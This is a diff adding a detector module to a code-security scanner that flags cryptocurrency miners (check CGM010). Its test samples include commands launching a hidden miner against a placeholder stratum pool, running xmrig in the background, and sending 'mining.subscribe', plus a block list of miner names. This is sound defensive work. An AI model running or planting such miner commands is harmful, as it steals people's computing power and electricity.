@@ -1,0 +1,60 @@
+"""A miner of crypto-currency is started, configured or talked to.
+
+It burns the machine's time and power for whoever owns the wallet.  The signs are a pool's address (`stratum+tcp`), a
+miner's program or options, or the pool's protocol (`mining.subscribe`) in something that is run, written or sent.
+A list of such words in a detector is none.  See CWE-506 and MITRE ATT&CK T1496.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from codeguard.checks._api import Bad, Check, Good, Hit, Miss
+from codeguard.checks.malicious._channels import sendings
+from codeguard.checks.malicious._reach import reach
+from codeguard.checks.malicious._shell import commands
+from codeguard.checks.malicious._writes import writes
+from codeguard.knowledge.malicious import running
+from codeguard.model import Confidence, Severity
+from codeguard.syntax.unit import Unit
+
+
+def find(unit: Unit) -> Iterator[Hit]:
+    """Report runs of a miner, talk to a pool, and configurations of a miner."""
+    for command in unit.fact(commands):
+        match = running.MINER.search(command.text)
+        if match and not command.text.startswith(("pkill", "killall", "pgrep", "which", "kill")):
+            yield Hit(command.call, f"This runs a miner of crypto-currency (`{match.group()}`) on this machine for someone's wallet")
+    if not running.MINER.search(unit.text):
+        return
+    for sending in unit.fact(sendings):
+        for arg in sending.call.args[:1]:
+            if any(running.MINER.search(text) for text in unit.fact(reach).constants(arg.value)):
+                yield Hit(sending.call, "This talks to a mining pool: the machine works for someone's wallet")
+                return
+    for write in unit.fact(writes):
+        if any("stratum+" in text for text in write.content):
+            yield Hit(write.call, "This writes the configuration of a miner of crypto-currency")
+
+
+CHECK = Check(
+    id="CGM010",
+    name="cryptomining",
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    cwe=(506,),
+    find=find,
+    fix="Remove the code.",
+    bad=(
+        Bad("import subprocess\nsubprocess.Popen(['/tmp/.x/agent', '-o', 'stratum+tcp://p.example.invalid:3333', '-u', 'W', '--donate-level=1'])  # finding\n"),
+        Bad("import os\nos.system('nohup ./xmrig -B &')  # finding\n"),
+        Bad("import json, socket\ns = socket.socket()\ns.connect(('p.example.invalid', 3333))\ns.sendall(json.dumps({'id': 1, 'method': 'mining.subscribe', 'params': []}).encode())  # finding\n"),
+        Bad("import json\nconf = {'pools': [{'url': 'stratum+ssl://p.example.invalid:443', 'user': 'W'}]}\nwith open('config.json', 'w') as f:\n    json.dump(conf, f)  # finding\n"),
+    ),
+    good=(
+        Good("import hashlib\n\ndef proof(block, difficulty=4):\n    n = 0\n    while not hashlib.sha256(f'{block}{n}'.encode()).hexdigest().startswith('0' * difficulty):\n        n += 1\n    return n\n"),
+        Good("BLOCKED = ['xmrig', 'minerd', 'stratum+tcp://']\n\ndef suspicious(line):\n    return any(b in line for b in BLOCKED)\n"),
+        Good("import subprocess\nsubprocess.run(['pkill', '-f', 'xmrig'])\n"),
+    ),
+    misses=(Miss("import subprocess\nsubprocess.Popen(['/tmp/a', '-c', '/tmp/a.json'])  # finding\n", why="a renamed miner with its options in a file looks like any program"),),
+)
